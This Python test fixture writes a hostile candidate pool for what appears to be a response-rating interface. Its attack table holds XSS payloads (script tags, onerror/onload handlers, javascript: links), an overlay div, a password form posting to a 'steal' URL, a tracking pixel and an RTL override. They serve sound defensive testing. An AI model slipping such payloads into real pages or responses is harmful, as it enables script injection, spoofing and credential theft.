"""A hostile candidate pool: each attack appears as a response, a prompt turn and a source name."""

from __future__ import annotations

import json
from pathlib import Path

OVERLAY = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red"
ATTACKS = {
    "script": "<script>window.__pwned=1</script>",
    "img": '<img src=x onerror="window.__pwned=2">',
    "svg": '<svg onload="window.__pwned=3"><circle r="40"/></svg>',
    "iframe": '<iframe src="javascript:window.__pwned=4"></iframe>',
    "js-link": "[click me](javascript:window.__pwned=5)",
    "backticks": f'Looks harmless ``<div style="{OVERLAY}" id="overlay1">x</div>` end.',
    "fence": f'```a`b\n<div style="{OVERLAY}" id="overlay2">x</div>\n',
    "form": '<form action="http://127.0.0.9:9/steal"><button id="vote-a">1</button><input name="password"></form>',
    "autofocus": '<input autofocus id="grab" onfocus="window.__pwned=6">',
    "remote-image": "![tracker](http://127.0.0.9:9/pixel.png)",
    "rtl": "price: 100\u202e$ 001\u202c done",
    "list-code": "- item\n\n      <div id='listcode'>code</div>\n",
    "whitespace": "   \n\t ",
}
# A prompt turn and a source name must hold some text (the pool schema says so), so the blank attack is a response
# only.
BLANK = {"whitespace"}


def write_hostile_pool(path: Path) -> Path:
    rows = []
    for n, (name, attack) in enumerate(ATTACKS.items()):
        prompt = [{"role": "user", "content": f"Question {n}" if name in BLANK else attack}]
        source = "model-x" if name in BLANK else attack
        rows += [
            {"prompt_id": f"p{n}", "prompt": prompt, "response_id": "r0", "response": attack, "source": source,
             "meta": "{}"},
            {"prompt_id": f"p{n}", "prompt": prompt, "response_id": "r1", "response": f"A plain answer {n}.",
             "source": "model-ok", "meta": "{}"},
        ]  # fmt: skip
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path
